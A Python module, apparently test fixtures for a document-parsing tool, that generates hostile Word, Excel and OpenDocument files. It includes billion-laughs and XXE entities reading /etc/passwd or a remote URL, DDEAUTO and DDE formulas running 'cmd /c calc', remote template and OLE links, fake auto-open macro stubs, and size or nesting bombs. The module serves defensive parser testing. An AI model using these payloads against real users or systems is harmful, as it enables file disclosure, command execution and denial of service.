"""Files of Word, Excel, PowerPoint and OpenDocument made to hurt."""

from __future__ import annotations

from made.archives import GOOD
from made.zips import Member, files, plain, repeated, zipped

_MAIN = "http://schemas.openxmlformats.org"
_WORD = f"{_MAIN}/wordprocessingml/2006/main"
_SHEET = f"{_MAIN}/spreadsheetml/2006/main"
_RELATION = f"{_MAIN}/officeDocument/2006/relationships"
_RELATIONS = f"{_MAIN}/package/2006/relationships"
_TYPES = plain("[Content_Types].xml", "<Types/>")
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a0 "laughs">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)


def outside(url: str) -> str:
    """Entities that stand elsewhere."""
    return (
        f'<!DOCTYPE l SYSTEM "{url}" [<!ENTITY % p SYSTEM "{url}"> %p; '
        f'<!ENTITY a11 SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "{url}">]>'
    )


def paragraph(words: str) -> str:
    """A paragraph of Word."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def _document(body: str, types: str = "") -> Member:
    names = f'xmlns:w="{_WORD}" xmlns:r="{_RELATION}"'
    return plain(
        "word/document.xml", f"{types}<w:document {names}><w:body>{body}</w:body></w:document>"
    )


def _relations(name: str, *targets: tuple[str, str, str]) -> Member:
    lines = "".join(
        f'<Relationship Id="{one}" Type="{_RELATION}/{kind}" Target="{target}"'
        f' TargetMode="External"/>'
        for one, kind, target in targets
    )
    return plain(name, f'<Relationships xmlns="{_RELATIONS}">{lines}</Relationships>')


def docx_laughs() -> bytes:
    """A billion laughs."""
    return zipped(_TYPES, _document(paragraph(GOOD) + paragraph("&a11;"), LAUGHS))


def docx_outside(url: str) -> bytes:
    """Entities that stand elsewhere."""
    return zipped(_TYPES, _document(paragraph(GOOD) + paragraph("&a11;&u;"), outside(url)))


def docx_large() -> bytes:
    """400 MB of paragraphs."""
    head = f'<w:document xmlns:w="{_WORD}"><w:body>'.encode()
    block = paragraph(GOOD).encode() * 10_000
    return zipped(
        _TYPES, repeated("word/document.xml", block, 400_000_000 // len(block), head,
                         b"</w:body></w:document>")
    )  # fmt: skip


def docx_within_limit() -> bytes:
    """60 MB of empty paragraphs, just below what is held as a tree."""
    head = f'<w:document xmlns:w="{_WORD}"><w:body>{paragraph(GOOD)}'.encode()
    return zipped(
        _TYPES, repeated("word/document.xml", b"<w:p/>" * 10_000, 1000, head,
                         b"</w:body></w:document>")
    )  # fmt: skip


def docx_pictures(url: str) -> bytes:
    """Pictures, a template and a linked object that lie elsewhere."""
    body = (
        paragraph(GOOD)
        + '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main" r:link="i" r:embed="i"/></w:drawing><w:object><o:OLEObject xmlns:o="urn:schemas-'
        'microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.12" r:id="o"/></w:object>'
        f'<w:fldSimple w:instr=" INCLUDEPICTURE {url} "/><w:fldSimple w:instr=" DDEAUTO cmd /c calc"/>'
        '</w:r></w:p><w:altChunk r:id="c"/><w:subDoc r:id="s"/>'
    )
    return zipped(
        _TYPES,
        _document(body),
        _relations("word/_rels/document.xml.rels", ("i", "image", url), ("o", "oleObject", url),
                   ("c", "aFChunk", url), ("s", "subDocument", url), ("n", "footnotes", url)),
        _relations("word/_rels/settings.xml.rels", ("t", "attachedTemplate", f"{url}/t.dotm")),
        plain("word/settings.xml", f'<w:settings xmlns:w="{_WORD}"/>'),
    )  # fmt: skip


def docm() -> bytes:
    """Macros, and controls that start them."""
    return zipped(
        _TYPES, _document(paragraph(GOOD)),
        plain("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open Shell" * 500),
        plain("word/vbaData.xml", "<wne:vbaSuppData/>"),
        plain("word/activeX/activeX1.bin", b"\0" * 4096),
    )  # fmt: skip


def docx_nested() -> bytes:
    """Tables in tables, 5,000 deep."""
    return zipped(_TYPES, _document(paragraph(GOOD) + "<w:tbl><w:tr><w:tc>" * 5_000))


def _workbook(sheet: Member, *more: Member) -> bytes:
    relations = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="a" Type="{_RELATION}/worksheet"'
        f' Target="worksheets/sheet1.xml"/><Relationship Id="s" Type="{_RELATION}/sharedStrings"'
        ' Target="sharedStrings.xml"/></Relationships>'
    )
    workbook = (
        f'<workbook xmlns="{_SHEET}" xmlns:r="{_RELATION}"><sheets>'
        '<sheet name="Prices" sheetId="1" r:id="a"/></sheets></workbook>'
    )
    return zipped(
        _TYPES, plain("xl/workbook.xml", workbook),
        plain("xl/_rels/workbook.xml.rels", relations), sheet, *more,
    )  # fmt: skip


def _sheet(rows: str, more: str = "", types: str = "") -> Member:
    return plain(
        "xl/worksheets/sheet1.xml",
        f'{types}<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData>{more}</worksheet>',
    )


_HEADER = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Good words stand here.</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Price</t></is></c></row>'
)


def xlsx_columns() -> bytes:
    """A row of a million cells."""
    head = f'<worksheet xmlns="{_SHEET}"><sheetData>{_HEADER}<row>'.encode()
    end = b"</row></sheetData></worksheet>"
    return _workbook(
        repeated("xl/worksheets/sheet1.xml", b"<c><v>1</v></c>" * 1000, 1000, head, end)
    )


def xlsx_rows() -> bytes:
    """A sheet of a million rows of four cells."""
    head = f'<worksheet xmlns="{_SHEET}"><sheetData>{_HEADER}'.encode()
    row = b"<row><c><v>1</v></c><c><v>2</v></c><c><v>3.5</v></c><c><v>4</v></c></row>"
    return _workbook(
        repeated("xl/worksheets/sheet1.xml", row * 1000, 1000, head, b"</sheetData></worksheet>")
    )


def xlsx_corners() -> bytes:
    """Two cells at the corners of a sheet, all of which is merged, many times over."""
    rows = _HEADER + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    merged = '<mergeCell ref="A1:XFD1048576"/><mergeCell ref="B2:XFC9999"/>' * 2000
    return _workbook(_sheet(rows, f"<mergeCells>{merged}</mergeCells>"))


def xlsx_diagonal() -> bytes:
    """16,000 cells in as many rows and columns."""
    letters = [_column(n) for n in range(16_000)]
    rows = "".join(
        f'<row r="{n + 2}"><c r="{c}{n + 2}"><v>1</v></c></row>' for n, c in enumerate(letters)
    )
    return _workbook(_sheet(_HEADER + rows))


def xlsx_laughs() -> bytes:
    """A billion laughs in the strings that cells share."""
    strings = f'{LAUGHS}<sst xmlns="{_SHEET}"><si><t>&a11;</t></si></sst>'
    cells = '<row><c t="s"><v>0</v></c></row>'
    return _workbook(_sheet(_HEADER + cells), plain("xl/sharedStrings.xml", strings))


def xlsm(url: str) -> bytes:
    """Macros, a link to another workbook, a query, and formulas that start programs."""
    cells = (
        f'<row><c><f>WEBSERVICE("{url}")</f><v>1</v></c><c t="str"><f>cmd|\'/c calc\'!A0</f>'
        f'<v>2</v></c><c t="str"><f>HYPERLINK("{url}")</f><v>3</v></c></row>'
    )
    return _workbook(
        _sheet(_HEADER + cells), plain("xl/vbaProject.bin", b"Auto_Open Shell" * 500),
        _relations("xl/externalLinks/_rels/externalLink1.xml.rels", ("e", "externalLinkPath", url)),
        plain("xl/connections.xml", f'<connections><connection><webPr url="{url}"/></connection></connections>'),
    )  # fmt: skip


_OFFICE = "urn:oasis:names:tc:opendocument:xmlns"
_NAMES = (
    f'xmlns:office="{_OFFICE}:office:1.0" xmlns:text="{_OFFICE}:text:1.0" '
    f'xmlns:table="{_OFFICE}:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xmlns:draw="{_OFFICE}:drawing:1.0"'
)


def _open_document(kind: str, body: str, types: str = "") -> bytes:
    content = (
        f"{types}<office:document-content {_NAMES}><office:body><office:{kind}>{body}"
        f"</office:{kind}></office:body></office:document-content>"
    )
    return files(
        ("mimetype", f"application/vnd.oasis.opendocument.{kind}"), ("content.xml", content)
    )


def odt_laughs() -> bytes:
    """A billion laughs."""
    return _open_document("text", f"<text:p>{GOOD}</text:p><text:p>&a11;</text:p>", LAUGHS)


def odt_outside(url: str) -> bytes:
    """Entities, pictures and sections that stand elsewhere."""
    body = (
        f'<text:p>{GOOD}&a11;<draw:frame><draw:image xlink:href="{url}"/></draw:frame></text:p>'
        f'<text:section><text:section-source xlink:href="{url}"/></text:section>'
        f'<draw:frame><draw:object xlink:href="{url}"/></draw:frame>'
    )
    return _open_document("text", body, outside(url))


def odt_repeated() -> bytes:
    """A cell, a row, spaces and a header that say that they stand there a million times."""
    cell = f'<table:table-cell table:number-columns-repeated="1000000"><text:p>{GOOD}</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return _open_document(
        "text",
        f'<text:p>{GOOD}<text:s text:c="2000000000"/>x</text:p><table:table>{row * 3}</table:table>',
    )


def ods_repeated() -> bytes:
    """Rows of cells that say that they stand there a million times."""
    cell = f'<table:table-cell table:number-columns-repeated="1000000"><text:p>{GOOD}</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return _open_document("spreadsheet", f"<table:table>{row * 40}</table:table>")


def _column(number: int) -> str:
    name = ""
    number += 1
    while number:
        number, rest = divmod(number - 1, 26)
        name = chr(65 + rest) + name
    return name
